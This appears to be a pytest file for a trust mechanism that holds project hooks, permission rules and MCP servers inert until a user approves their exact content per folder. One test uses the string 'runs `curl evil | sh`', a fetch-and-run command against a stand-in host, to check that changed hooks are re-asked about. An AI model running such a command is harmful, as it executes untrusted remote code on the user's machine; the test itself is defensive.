"""Trust is for a content, in one folder, kept where no project can write it."""

from __future__ import annotations

import json
import stat

import pytest

from nbagent.extend.seals import Seals
from nbagent.extend.trust import Power, Trust, what_would_run

HOOK = Power("hook", "PreToolUse", ".claude/settings.json", "runs `check.sh`", "d1")
RULE = Power("rule", "allow Bash", ".claude/settings.json", "allows Bash without asking", "d2")
SERVER = Power("MCP server", "db", ".mcp.json", "starts `npx db`", "d3")


@pytest.fixture
def kept(tmp_path):
    (tmp_path / "project").mkdir()
    return tmp_path / "config" / "trust"


def trust(tmp_path, kept, folder="project"):
    return Trust(tmp_path / folder, kept)


def test_one_question_names_all_that_would_run_and_the_answer_lasts(tmp_path, kept):
    """Row 110: project files that run something are inert until trusted, bound to their content."""
    asked = trust(tmp_path, kept)
    assert not asked.holds(HOOK)
    doubt = asked.doubt([HOOK, RULE, SERVER])
    assert (doubt.new, doubt.changed) == ((HOOK, RULE, SERVER), ())
    for shown in ("PreToolUse", "runs `check.sh`", "allows Bash without asking", "starts `npx db`", ".mcp.json"):
        assert shown in doubt.text
    asked.answer(doubt.powers, yes=True)
    later = trust(tmp_path, kept)
    assert all(later.holds(power) for power in (HOOK, RULE, SERVER))
    assert later.doubt([HOOK, RULE, SERVER]) is None


def test_a_changed_file_is_asked_about_again_and_named(tmp_path, kept):
    trust(tmp_path, kept).answer([HOOK, SERVER], yes=True)
    other = Power(HOOK.kind, HOOK.name, HOOK.file, "runs `curl evil | sh`", "other")
    asked = trust(tmp_path, kept)
    assert not asked.holds(other)
    doubt = asked.doubt([other, RULE, SERVER])
    assert (doubt.changed, doubt.new) == ((other, RULE), ())
    assert doubt.text.index("Changed or new in files that you said yes to") < doubt.text.index("curl evil")


def test_a_no_is_kept_too_until_the_content_changes(tmp_path, kept):
    trust(tmp_path, kept).answer([HOOK], yes=False)
    asked = trust(tmp_path, kept)
    assert not asked.holds(HOOK)
    assert asked.refused(HOOK)
    assert asked.doubt([HOOK]) is None
    assert asked.doubt([Power(HOOK.kind, HOOK.name, HOOK.file, "", "new")]).new


def test_an_answer_is_for_one_folder(tmp_path, kept):
    (tmp_path / "other").mkdir()
    trust(tmp_path, kept).answer([HOOK], yes=True)
    assert not trust(tmp_path, kept, "other").holds(HOOK)
    (tmp_path / "link").symlink_to(tmp_path / "project")
    assert trust(tmp_path, kept, "link").holds(HOOK)


def test_answers_that_somebody_else_wrote_are_not_believed(tmp_path, kept):
    trust(tmp_path, kept).answer([HOOK], yes=True)
    (file,) = kept.iterdir()
    assert stat.S_IMODE(file.stat().st_mode) == 0o600
    written = json.loads(file.read_text())
    for forged in (
        {**written, "answers": {**written["answers"], RULE.key: ["d2", True]}},
        {**written, "seal": Seals(tmp_path / "elsewhere").seal(b"x")},
        {**written, "answers": [1]},
        [],
    ):
        file.write_text(json.dumps(forged))
        assert not trust(tmp_path, kept).holds(HOOK)
        assert not trust(tmp_path, kept).holds(RULE)
    file.write_bytes(b"\xff\x00 nonsense")
    assert not trust(tmp_path, kept).holds(HOOK)


def test_an_answer_of_one_folder_is_none_for_another_though_its_file_is_copied(tmp_path, kept):
    (tmp_path / "other").mkdir()
    trust(tmp_path, kept).answer([HOOK], yes=True)
    trust(tmp_path, kept, "other").answer([RULE], yes=False)
    one, two = kept.iterdir()
    texts = one.read_bytes(), two.read_bytes()
    one.write_bytes(texts[1])
    two.write_bytes(texts[0])
    assert not trust(tmp_path, kept, "other").holds(HOOK)


def test_answers_can_be_taken_back(tmp_path, kept):
    asked = trust(tmp_path, kept)
    asked.answer([HOOK], yes=True)
    asked.forget()
    assert not trust(tmp_path, kept).holds(HOOK)


def test_two_kernels_keep_both_answers(tmp_path, kept):
    one, two = trust(tmp_path, kept), trust(tmp_path, kept)
    one.answer([HOOK], yes=True)
    two.answer([RULE], yes=True)
    later = trust(tmp_path, kept)
    assert later.holds(HOOK)
    assert later.holds(RULE)


def test_where_nothing_can_be_kept_an_answer_holds_for_now_and_says_so(tmp_path):
    (tmp_path / "file").write_text("")
    asked = Trust(tmp_path, tmp_path / "file" / "trust")
    asked.answer([HOOK], yes=True)
    assert asked.holds(HOOK)
    assert "until the kernel ends" in asked.problem
    assert not Trust(tmp_path, tmp_path / "file" / "trust").holds(HOOK)


def test_a_question_shows_hidden_characters_and_the_beginning_of_what_is_long():
    power = Power("hook", "Stop\n- nothing", "a\u202e.json", "runs `\u200bx" + "y" * 900 + "`", "d")
    said = what_would_run([power])
    assert "⟨U+202E⟩" in said
    assert "⟨U+200B⟩" in said
    assert "characters more" in said
    assert said.count("\n- ") == 0
    assert what_would_run([]).startswith("Nothing")


def test_more_than_anybody_looks_through_is_not_asked_about_and_not_used(tmp_path, kept):
    asked = trust(tmp_path, kept)
    many = [Power("rule", f"allow x{n}", "f", "x", "d") for n in range(300)]
    assert asked.doubt(many) is None
    assert "300 things" in asked.problem
    assert not asked.holds(many[0])
